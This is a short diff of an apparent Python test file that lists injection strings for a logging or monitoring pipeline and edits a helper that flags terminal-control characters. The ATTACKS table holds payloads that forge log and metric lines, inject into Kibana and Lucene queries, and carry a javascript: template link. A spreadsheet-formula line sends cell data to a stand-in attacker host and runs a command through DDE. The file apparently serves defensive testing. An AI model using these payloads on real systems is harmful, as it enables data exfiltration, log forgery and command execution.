@@ -38,7 +38,7 @@ ATTACKS = {
     "a metric line behind a break": "x\nMONITORING|1|Count|page-view|AWS/Lambda|FunctionName=other",
     "names of metrics": "MONITORING|1|Count|:a\u202eb\x1b[2J|x|k\n=v\x00,:a=:b",
     "a correlation id of somebody else": '{"message": "paid", "correlation_id": "c-1\\n2026-11-21 ERROR c-2 forged"}',
-    "formulas of spreadsheets": '=HYPERLINK("https://evil.example?"&A1) +1+cmd|\' /C calc\'!A0 @SUM(1) \t=1 -2+3',
+    "formulas of spreadsheets": "=HYPERLINK(\"https://evil.example?\"&A1) +1+cmd|' /C calc'!A0 @SUM(1) \t=1 -2+3",
     "queries of Kibana": '" or * : * or message : "x) or (service.name:*',
     "queries of Lucene": "*:* OR _exists_:message /.*/ \\\\ AND NOT (a:[* TO *])",
     "templates of Kibana": "{{context.panel.title}} {{{event.value}}} {{#url}}javascript:alert(1){{/url}} {{rison x}}",
@@ -53,6 +53,6 @@ ATTACKS = {
 
 
 def steers(text: str, *, lines: bool = True) -> list[str]:
-    """The characters of a text that steer a terminal or the direction of what is read; lines: whether breaks are fine."""
+    """The characters that steer a terminal or the direction of what is read; lines: whether breaks are fine."""
     fine = "\n\t" if lines else ""
     return [char for char in text if char not in fine and unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
